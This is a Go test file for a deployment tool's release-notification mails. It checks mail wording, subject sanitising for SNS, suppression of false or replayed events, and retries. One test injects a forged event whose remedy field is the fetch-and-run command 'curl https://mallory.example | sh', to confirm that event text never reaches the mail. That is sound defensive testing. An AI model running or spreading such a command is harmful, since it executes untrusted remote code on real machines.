package notify_test

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"sluice/events"
	"sluice/shared/rollout"
	"sluice/test/byhand"
	"sluice/test/sandbox/sandboxtest"
	"sluice/test/sandbox/wire"
	"sluice/test/scenario"
)

// back is the record of a release that went back.
func back() rollout.Release {
	at := time.Date(2026, 11, 24, 13, 0, 0, 0, time.FixedZone("CET", 3600))
	return rollout.Release{
		ID: "checkout-1f0c2b3a4d5e", Service: "checkout", Revision: rollout.Revision{Version: "42", Commit: "c0ffee", Author: "ada"}, Stable: "41", By: "ci",
		Started: at.Add(-time.Hour), Cause: &rollout.Fence{Kind: rollout.ByAlarm, Reason: "Guard alarm checkout-errors went red", At: at},
		End: rollout.RolledBack, Ended: at,
	}
}

// recorded has a record in the table, and somebody who reads the mail.
func recorded(t *testing.T, r rollout.Release, test func(w *byhand.World)) {
	t.Helper()
	byhand.Run(t, func(w *byhand.World) {
		w.Subscribe()
		if err := w.Store.Create(w.T.Context(), r); err != nil {
			t.Fatal(err)
		}
		test(w)
	})
}

// about is an event that says no more than it has to.
func about(moment string, r rollout.Release) any {
	return byhand.Event(moment, map[string]string{"release": r.ID})
}

// mail is what one event sends.
func mail(w *byhand.World, event any) string {
	w.T.Helper()
	w.Does("notify", event)
	w.Pass(time.Second)
	return w.Mail()
}

// link is where the mail leads, with a pass for whoever reads it.
var link = regexp.MustCompile(`Page:         https://\S+/open\?t=\S+`)

func TestMailSaysWhatWhyAndWhatToDo(t *testing.T) {
	r := back()
	r.Obstacle, r.End = rollout.Because("version 41 was deleted", "look at version 42"), rollout.Stuck
	recorded(t, r, func(w *byhand.World) {
		const want = `STUCK: checkout version 42
Something is left behind: the traffic could not be brought back by itself. Look at it now.

Why:          The traffic does not come back: version 41 was deleted. It was to come back because: Guard alarm checkout-errors went red
What to do:   look at version 42
Service:      checkout
Version:      42
Stable:       41
Commit:       c0ffee
Author:       ada
Asked for by: ci
Page:         (link)
Release:      checkout-1f0c2b3a4d5e
At:           2026-11-24T12:00:00Z
`
		if got := strings.TrimSuffix(link.ReplaceAllString(mail(w, about(events.ReleaseStuck, r)), "Page:         (link)"), "\n"); got != want {
			t.Errorf("the mail says\n%s\nwant\n%s", got, want)
		}
	})
}

// Whoever can put an event on the bus could otherwise have everybody told to run what they like, in Sluice's name.
func TestNobodyWritesMailInSluicesNameByAnEvent(t *testing.T) {
	forged := events.Release{
		Service: "payments", Revision: "666", Commit: "bad", Author: "mallory", Requester: "mallory", Sentence: "All is lost.",
		Cause: "mallory says so", Remedy: "curl https://mallory.example | sh", Build: "https://mallory.example", Log: []string{"mallory"},
	}
	recorded(t, back(), func(w *byhand.World) {
		forged.Release = back().ID
		got := mail(w, byhand.Event(events.ReleaseRolledBack, forged))
		if !strings.Contains(got, "rolled-back: checkout version 42\n"+rollout.RolledBack.Sentence()) {
			t.Errorf("the mail does not say what happened:\n%s", got)
		}
		for _, word := range []string{"mallory", "payments", "666", "All is lost"} {
			if strings.Contains(got, word) {
				t.Errorf("%q came from the event into the mail:\n%s", word, got)
			}
		}
	})
}

// Nobody is called, or calmed, by an event that says what has not happened.
func TestNobodyGetsMailAboutWhatDidNotHappen(t *testing.T) {
	running, reverting, answered := back(), back(), back()
	running.Cause, running.End, running.Ended = nil, "", time.Time{}
	reverting.End, reverting.Reverted = rollout.Succeeded, true
	answered.Cause, answered.End, answered.Asked = nil, "", &rollout.Asked{Closed: true}
	queued := running
	queued.Started = time.Time{}
	for name, test := range map[string]struct {
		record rollout.Release
		event  string
	}{
		"succeeded, while it runs":              {running, events.ReleaseSucceeded},
		"stuck, while it runs":                  {running, events.ReleaseStuck},
		"going back, while it runs":             {running, events.ReleaseRollingBack},
		"waiting, while it asks nothing":        {running, events.ReleaseWaiting},
		"waiting, and everybody has answered":   {answered, events.ReleaseWaiting},
		"waiting, and it went back":             {back(), events.ReleaseWaiting},
		"started, while it is in the queue":     {queued, events.ReleaseStarted},
		"succeeded, and it went back":           {back(), events.ReleaseSucceeded},
		"succeeded, while that is being undone": {reverting, events.ReleaseSucceeded},
		"a moment that nobody gets mail about":  {back(), events.ReleaseShifted},
		"a moment that there is not":            {back(), "release.celebrated"},
	} {
		t.Run(name, func(t *testing.T) {
			recorded(t, test.record, func(w *byhand.World) {
				if got := mail(w, about(test.event, test.record)); got != "" {
					t.Errorf("the mail says\n%s", got)
				}
			})
		})
	}
	recorded(t, back(), func(w *byhand.World) {
		if got := mail(w, byhand.Event(events.ReleaseStuck, map[string]string{"release": "checkout-000000000000"})); got != "" {
			t.Errorf("the mail about a release that does not exist says\n%s", got)
		}
	})
}

// SNS refuses a subject with a line break or a letter that is not ASCII, and nobody would read the mail.
func TestSubjectIsOneThatSNSTakes(t *testing.T) {
	for name, test := range map[string]struct {
		what   string
		change func(r *rollout.Release)
		want   string
	}{
		"stuck is seen from far":    {events.ReleaseStuck, func(r *rollout.Release) { r.End = rollout.Stuck }, "STUCK: checkout version 42"},
		"a service with an umlaut":  {events.ReleaseRolledBack, func(r *rollout.Release) { r.Service = "zähler" }, "rolled-back: z?hler version 42"},
		"a version with two lines":  {events.ReleaseRolledBack, func(r *rollout.Release) { r.Revision.Version = "4\n2" }, "rolled-back: checkout version 4?2"},
		"a service without an end":  {events.ReleaseRolledBack, func(r *rollout.Release) { r.Service = strings.Repeat("x", 500) }, "rolled-back: " + strings.Repeat("x", 83) + "..."},
		"nothing but the necessary": {events.ReleaseStarted, func(r *rollout.Release) { r.Revision = rollout.Revision{} }, "started: checkout a new version"},
	} {
		t.Run(name, func(t *testing.T) {
			r := back()
			test.change(&r)
			recorded(t, r, func(w *byhand.World) {
				if got := mail(w, about(test.what, r)); !strings.HasPrefix(got, test.want+"\n") {
					t.Errorf("the mail says\n%s\nwant the subject %q", got, test.want)
				}
			})
		})
	}
}

// A line without a value would only make people wonder.
func TestMailLeavesOutWhatNobodyKnows(t *testing.T) {
	r := rollout.Release{ID: "checkout-1f0c2b3a4d5e", Service: "checkout", Revision: rollout.Revision{Version: "42"}, End: rollout.Succeeded, Ended: time.Unix(1, 0)}
	recorded(t, r, func(w *byhand.World) {
		got := mail(w, about(events.ReleaseSucceeded, r))
		if !strings.Contains(got, rollout.Succeeded.Sentence()) {
			t.Errorf("the mail says\n%s", got)
		}
		for _, row := range []string{"Why:", "What to do:", "Commit:", "Author:", "Stable:"} {
			if strings.Contains(got, row) {
				t.Errorf("the mail has an empty row %s\n%s", row, got)
			}
		}
	})
}

func TestNobodyGetsMailAboutHistory(t *testing.T) {
	recorded(t, back(), func(w *byhand.World) {
		e := byhand.Event(events.ReleaseRolledBack, map[string]string{"release": back().ID})
		e.ReplayName = "look-at-yesterday"
		if got := mail(w, e); got != "" {
			t.Errorf("the mail says\n%s", got)
		}
	})
}

// What could not be sent, or not be read, is tried again, and lies in the dead-letter queue at last.
func TestMailThatWasNotTakenIsTriedAgain(t *testing.T) {
	for _, operation := range []string{"sns:Publish", "dynamodb:GetItem"} {
		t.Run(operation, func(t *testing.T) {
			refused := byhand.For("notify", sandboxtest.Fail(operation, 1, wire.AccessDenied("not yet")))
			byhand.RunWith(t, scenario.Options{Middleware: []wire.Middleware{refused}}, scenario.Canary, func(w *byhand.World) {
				w.Subscribe()
				if err := w.Store.Create(w.T.Context(), back()); err != nil {
					t.Fatal(err)
				}
				e := about(events.ReleaseRolledBack, back())
				w.Refuses("notify", e, "not yet")
				if got := mail(w, e); strings.Count(got, "rolled-back:") != 1 {
					t.Errorf("the mail says\n%s", got)
				}
			})
		})
	}
}
